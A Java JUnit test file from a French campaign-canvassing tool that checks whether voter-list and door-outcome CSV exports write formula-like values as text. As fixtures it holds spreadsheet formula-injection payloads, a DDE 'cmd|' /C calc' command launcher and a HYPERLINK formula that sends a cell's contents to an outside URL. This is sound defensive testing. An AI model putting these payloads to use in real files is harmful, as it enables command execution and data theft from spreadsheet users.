package fr.terrain.cli;

import static org.assertj.core.api.Assertions.assertThat;

import fr.terrain.account.Role;
import fr.terrain.field.DoorOutcome;
import fr.terrain.field.OutcomeReport;
import fr.terrain.field.TurfScope;
import fr.terrain.ingest.ElectoralListReader;
import fr.terrain.store.FieldFixtures;
import fr.terrain.store.FieldStore;
import fr.terrain.store.Store;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The CSV files a campaign opens in a spreadsheet never carry a formula: a name from an imported list, or a topic a
 * canvasser's phone sent, beginning with {@code =}, {@code +}, {@code -} or {@code @}, is written as text.
 */
class SpreadsheetExportTest {
    @TempDir
    Path home;

    CommandRun run(String... args) {
        return CommandRun.of(List.of("--home", home.toString()), args);
    }

    @Test
    void aVoterListExportWritesANameThatLooksLikeAFormulaAsText() throws Exception {
        Path list = home.resolve("liste.csv");
        Files.createDirectories(home);
        Files.writeString(list, String.join(";", ElectoralListReader.COLUMNS) + "\n"
                + "LG;LE;01/01/2026;75;75112;Paris 12e;1;F;DUPONT;;=2+5*cmd|' /C calc'!A0;03/04/1970;Lyon;69;FRANCE;;École;7;;8;;;"
                + "12;RUE;@SOMME(A1);;75012;PARIS;FRANCE\n", StandardCharsets.UTF_8);
        assertThat(run("election", "add", "paris-2026", "--kind", "municipales", "--round1", "2026-03-15").exit()).isZero();
        CommandRun imported = run("import", "voters", list.toString(), "--source", "electoral-list", "--election",
                "paris-2026", "--provider", "Préfecture");
        assertThat(imported.exit()).as(imported.err()).isZero();
        CommandRun select = run("voters", "select", "--election", "paris-2026", "--station", "12-7");
        assertThat(select.exit()).as(select.err()).isZero();
        assertThat(select.out().lines().toList()).hasSize(2).last().asString().startsWith("1;12-7;F;")
                .endsWith(";'=2+5*cmd|' /C calc'!A0 DUPONT;12 RUE @SOMME(A1)");
    }

    @Test
    void anOutcomesExportWritesATopicThatLooksLikeAFormulaAsText() throws Exception {
        try (Store s = Store.h2(home)) {
            FieldStore.SavedPlan plan = FieldFixtures.plan(s, "mars", 1, 2);
            long camille = FieldFixtures.user(s, "camille", Role.CANVASSER, 11).id();
            FieldStore.record(s, new TurfScope.All(), camille, "camille", List.of(new OutcomeReport("e-1",
                    plan.turfIds().get(0), "T1-1", DoorOutcome.OPENED, "=HYPERLINK(\"https://exemple.org/?\"&C2;\"Voir\")",
                    null, null, null, Instant.parse("2026-03-01T10:00:00Z"))), Instant.now());
        }
        CommandRun export = run("turfs", "outcomes", "--plan", "mars");
        assertThat(export.exit()).as(export.err()).isZero();
        assertThat(export.out().lines().toList()).hasSize(2).last().asString()
                .contains(";opened;\"'=HYPERLINK(\"\"https://exemple.org/?\"\"&C2;\"\"Voir\"\")\";");
    }
}
